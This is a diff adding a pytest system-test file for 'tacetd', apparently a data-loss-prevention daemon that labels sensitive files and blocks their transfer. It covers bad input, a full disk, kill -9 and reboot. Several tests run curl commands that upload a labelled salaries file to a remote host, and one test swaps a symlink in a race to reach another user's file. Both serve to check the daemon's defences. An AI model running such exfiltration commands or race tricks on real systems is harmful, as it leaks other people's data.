@@ -1,0 +1,144 @@
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""tacetd in the whole system: bad input, very many files, a full disk, kill -9, no module, a reboot."""
+
+import time
+
+import pytest
+from desktop_guest import DesktopGuest
+from tacet_cli import Tacet
+
+FAILURE, USAGE, DENIED, NOT_FOUND, PARTIAL, UNPROTECTED = 1, 2, 4, 5, 6, 7
+# A tenth of what one call takes; see the measured rate in the report.
+MANY = 1_000
+
+# What a person may ask for in vain: how it is prepared (as root, in her folder), the command, its status, its D-Bus error.
+BAD = {
+    "unknown path": ("true", "label add nothing", NOT_FOUND, "org.tacet.Error.NotFound"),
+    "directory": ("mkdir d", "label add d", FAILURE, "org.tacet.Error.NotAFile"),
+    "fifo": ("mkfifo f", "label add f", FAILURE, "org.tacet.Error.NotAFile"),
+    "another user's": ("install -o bela -m 600 salaries.csv b", "label add b", DENIED, "org.tacet.Error.NotOwner"),
+    "link to another user's": ("install -o bela -m 600 salaries.csv b; ln -s b l", "label add l", DENIED, "org.tacet.Error.NotOwner"),
+    "link to nothing": ("ln -s nowhere l", "label add l", NOT_FOUND, "org.tacet.Error.NotFound"),
+    "link loop": ("ln -s l l", "label add l", FAILURE, ""),
+    "no file system for labels": ("true", "label add /proc/self/status", FAILURE, ""),
+    "unmark unmarked": ("true", "label remove salaries.csv", NOT_FOUND, "org.tacet.Error.NotLabelled"),
+    "category": ("true", "label add --category nonsense salaries.csv", USAGE, "org.tacet.Error.InvalidCategory"),
+    "question": ("true", "breach answer 4711 block", NOT_FOUND, "org.tacet.Error.NoSuchQuestion"),
+    "verdict": ("true", "breach answer 4711 perhaps", USAGE, "org.tacet.Error.InvalidVerdict"),
+    "duration": ("true", "rule add block --for ever", USAGE, "org.tacet.Error.InvalidDuration"),
+    "rule": ("true", "rule remove 4711", NOT_FOUND, "org.tacet.Error.NoSuchRule"),
+}
+
+
+@pytest.mark.parametrize("case", BAD)
+def test_bad_input(scene, case):
+    """A clear error with its D-Bus name and exit status; nothing changed."""
+    prepare, command, status, error = BAD[case]
+    scene.guest.run(prepare, cwd=scene.folder, check=True)
+    before = scene.tacet.json("label", "list"), scene.tacet.rules()
+    done = scene.guest.run(f"tacet {command} --json", session=True, cwd=scene.folder)
+    assert (done.returncode, error in done.stdout) == (status, True), done.stdout + done.stderr
+    assert done.stderr.startswith("tacet: ")
+    assert (scene.tacet.json("label", "list"), scene.tacet.rules()) == before
+
+
+def test_link_changed_in_time(scene):
+    """A link that is turned to another user's file while it is being marked marks nothing of that user."""
+    scene.guest.run("install -o bela -m 600 salaries.csv b; ln -s salaries.csv l", cwd=scene.folder, check=True)
+    swap = "for i in $(seq 300); do ln -sfn b l; ln -sfn salaries.csv l; done"
+    mark = "while kill -0 $! 2>/dev/null; do tacet label add l; done >/dev/null 2>&1"
+    scene.run(f"{swap} & {mark}")
+    assert scene.tacet.categories(f"{scene.folder}/b") == []
+
+
+def test_many_files(scene, record_property):
+    """Very many files in one call: all are marked, in bounded time, and tacetd goes on answering meanwhile."""
+    scene.run(f"mkdir many && cd many && seq {MANY} | split -l 1 -a 4 -d - f")
+    started = time.monotonic()
+    adding = scene.start("tacet label add --recursive --json many")
+    slowest = _slowest_answer(scene, adding)
+    done = adding.finish(300)
+    seconds = time.monotonic() - started
+    assert done.returncode == 0, done.stderr[-2000:]
+    assert f'"done": {MANY}' in done.stdout
+    print(f"{MANY} files marked in {seconds:.1f} s; slowest answer meanwhile {slowest:.1f} s")
+    record_property("seconds", seconds)
+    assert seconds < 120 and slowest < 10
+    assert scene.tacet.categories(f"{scene.folder}/many/f{MANY - 1:04d}") == ["custom"]
+    scene.tacet.run("label", "remove", "--recursive", f"{scene.folder}/many", timeout=300)
+
+
+def _slowest_answer(scene, attempt):
+    slowest = 0.0
+    while attempt.running():
+        started = time.monotonic()
+        scene.tacet.run("status", check=False)
+        slowest = max(slowest, time.monotonic() - started)
+        time.sleep(0.2)
+    return slowest
+
+
+@pytest.fixture
+def full_disk(guest):
+    """tacetd with a store on a file system that is full."""
+    guest.run("systemctl stop tacetd && cp -a /var/lib/tacet /run/tacet-store && mount -t tmpfs -o size=2m tmpfs /var/lib/tacet"
+              " && cp -a /run/tacet-store/. /var/lib/tacet/ && systemctl start tacetd", check=True)
+    guest.run("head -c 4M /dev/zero >/var/lib/tacet/ballast")
+    yield
+    guest.run("systemctl stop tacetd; umount -l /var/lib/tacet; systemctl start tacetd", check=True)
+
+
+def test_full_disk(scene, full_disk):
+    """Without room for its store tacetd refuses to promise anything lasting, and still asks and blocks."""
+    assert scene.tacet.run("rule", "add", "allow", "--host", "remote", check=False).returncode == FAILURE
+    assert scene.tacet.rules() == []
+    marked = scene.tacet.run("label", "add", scene.file, check=False).returncode == 0
+    assert bool(scene.tacet.categories(scene.file)) == marked
+    scene.guest.run("rm /var/lib/tacet/ballast", check=True)
+    scene.label()
+    _, done = scene.send_and_answer("curl -sS -m 90 -T salaries.csv http://remote/", "block")
+    assert done.returncode != 0
+    scene.assert_nothing_leaked()
+
+
+def test_killed(scene):
+    """Labels and rules survive kill -9."""
+    scene.label()
+    rule = scene.tacet.json("rule", "add", "block", "--host", "remote")["id"]
+    scene.guest.run("systemctl kill --signal=KILL tacetd", check=True)
+    scene.guest.wait_for(lambda: scene.tacet.run("status", check=False).returncode == 0, what="tacetd")
+    assert scene.tacet.categories(scene.file) == ["finance"]
+    assert [kept["id"] for kept in scene.tacet.rules()] == [rule]
+    scene.guest.wait_for(scene.app_is_agent, what="the app to register again")
+
+
+def test_reboot(scene):
+    """After a reboot labels and rules hold, before anybody logs in and after."""
+    scene.label()
+    scene.run("cp salaries.csv copy")
+    rule = scene.tacet.json("rule", "add", "block", "--executable", "/usr/bin/curl", "--host", "remote")["id"]
+    scene.screen.close()
+    scene.remote.stop()
+    scene.guest.reboot()
+    scene.remote.start()
+    scene.guest.wait_for(scene.app_is_agent, 60, "the app to register")
+    assert scene.tacet.categories(scene.file) == ["finance"] == scene.tacet.categories(f"{scene.folder}/copy")
+    assert [kept["id"] for kept in scene.tacet.rules()] == [rule]
+    for name in ("salaries.csv", "copy"):
+        assert scene.run(f"curl -sS -m 90 -T {name} http://remote/").returncode != 0
+    assert scene.decisions() == [("rule", "block")] * 2
+    scene.tacet.remove_rules()
+    scene.send_and_answer("curl -sS -m 90 -T copy http://remote/", "block")
+    scene.assert_nothing_leaked()
+
+
+def test_module_absent(kernel):
+    """Without the module `tacet doctor` says what is not enforced."""
+    with DesktopGuest(kernel, append="modprobe.blacklist=tacet module_blacklist=tacet") as guest:
+        done = guest.run("tacet doctor --json; exit $?")
+        assert done.returncode == UNPROTECTED
+        report = Tacet(guest).json("doctor", check=False)
+        assert report["module"] == "absent"
+        enforced = {item["name"] for item in report["protections"] if item["enforced"]}
+        assert enforced <= {"lasting-rules", "boot"}
+        assert guest.faults() == []
